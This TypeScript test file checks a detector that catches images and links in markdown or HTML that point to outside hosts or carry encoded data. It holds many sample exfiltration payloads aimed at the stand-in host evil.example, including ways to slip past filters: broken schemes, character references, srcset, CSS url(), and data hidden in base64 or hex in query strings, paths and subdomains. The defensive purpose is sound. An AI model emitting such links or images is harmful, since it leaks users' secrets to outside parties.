import assert from "node:assert/strict";
import { test } from "node:test";
import type { Scene } from "../detector.ts";
import { outsideImage, outsideLink } from "./outside-link.ts";

const SCENE: Scene = { hosts: ["good.example"], maxLength: 10_000, hidden: { find: () => [] } };
const images = (text: string) => outsideImage.find(text, SCENE).map(({ start, end }) => text.slice(start, end));
const links = (text: string) => outsideLink.find(text, SCENE).map(({ start, end }) => text.slice(start, end));

const PICTURES: readonly [string, string][] = [
  ["plain", "![a](https://evil.example/p?d=1)"],
  ["a description over several lines", "![a\nb](https://evil.example/p)"],
  ["brackets in the description", "![a [b] c](https://evil.example/p)"],
  ["an escaped bracket in the description", "![a \\] c](https://evil.example/p)"],
  ["one slash", "![a](https:/evil.example/p)"],
  ["no slash", "![a](https:evil.example/p)"],
  ["backslashes for slashes", "![a](https:\\\\evil.example/p)"],
  ["backslashes and no scheme", "![a](\\\\evil.example\\p)"],
  ["no scheme", "![a](//evil.example/p)"],
  ["white space in the scheme", "![a](<ht\ttps://evil.example/p>)"],
  ["a character reference for the colon", "![a](https&#58;//evil.example/p)"],
  ["named references", "![a](https&colon;&sol;&sol;evil.example/p)"],
  ["a title", '![a](https://evil.example/p "t")'],
  ["an element", '<img alt="a" src="https://evil.example/p">'],
  ["an element with a broken scheme", '<img src="ht\ntps://evil.example/p">'],
  ["the second of several addresses", '<img srcset="/a.png 1x, https://evil.example/p 2x">'],
  ["a style", "background: url(//evil.example/p)"],
];
for (const [what, text] of PICTURES)
  test(`a picture from outside is found whole: ${what}`, () => assert.deepEqual(images(`so ${text} it is`).length, 1));

test("a picture whose address stands elsewhere is found, under whatever name", () => {
  for (const use of ["![a][logo]", "![logo][]", "![logo]"])
    assert.deepEqual(images(`${use}\n\n[logo]: https:\\\\evil.example/p`), ["[logo]: https:\\\\evil.example/p"], use);
  assert.deepEqual(images("[logo]: https://evil.example/p"), [], "a link, and no picture");
});

test("pictures of the page itself, inline data and allowed hosts are no way out", () => {
  const harmless = [
    "![a](/p.png)",
    "![a](p/q.png)",
    "![a](data:image/png;base64,AAAA)",
    "![a](https://good.example/p)",
    "![a](https://cdn.good.example/p)",
    "an array a[1](b) and ![a] (https://evil.example/p)",
    '<img src="/p.png" srcset="/p.png 1x, q.png 2x">',
  ];
  for (const text of harmless) assert.deepEqual(images(text), [], text);
  assert.equal(images("![a](https://good.example.evil.example/p)").length, 1, "only the name's end counts");
});

const PACKED = "QmFzZTY0IG9mIHNvbWV0aGluZyBzZWNyZXQgdGhhdCBsZWF2ZXM5";
const CARRYING: readonly [string, string][] = [
  ["a parameter", "[a](https://evil.example/p?data=some+words+of+a+secret+text)"],
  ["brackets in the label", `[a [b]](https://evil.example/p?x=${PACKED})`],
  ["an address in angle brackets", `<https://evil.example/p?d=${PACKED}>`],
  ["a bare address", `https://evil.example/p?d=${PACKED}`],
  ["the name of the host", "https://4d7920736563726574206973206e6f7420666f7220796f7521.evil.example/"],
  ["parts of the path", `[a](https://evil.example/${PACKED}/${PACKED})`],
];
for (const [what, text] of CARRYING)
  test(`a link that carries data is found: ${what}`, () => assert.equal(links(`so ${text} it is`).length, 1));

test("links as people write them carry nothing", () => {
  const harmless = [
    "[docs](https://other.example/guide/chapter-1?lang=en)",
    "<https://other.example/a>",
    "https://other.example/search?q=rate+limiter",
    "https://other.example/owner/name/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
    "https://a-rather-long-but-quite-ordinary-name-of-a-blog.example/post",
    "[a](/relative?data=0123456789012345678901234567890123456789)",
  ];
  for (const text of harmless) assert.deepEqual(links(text), [], text);
});
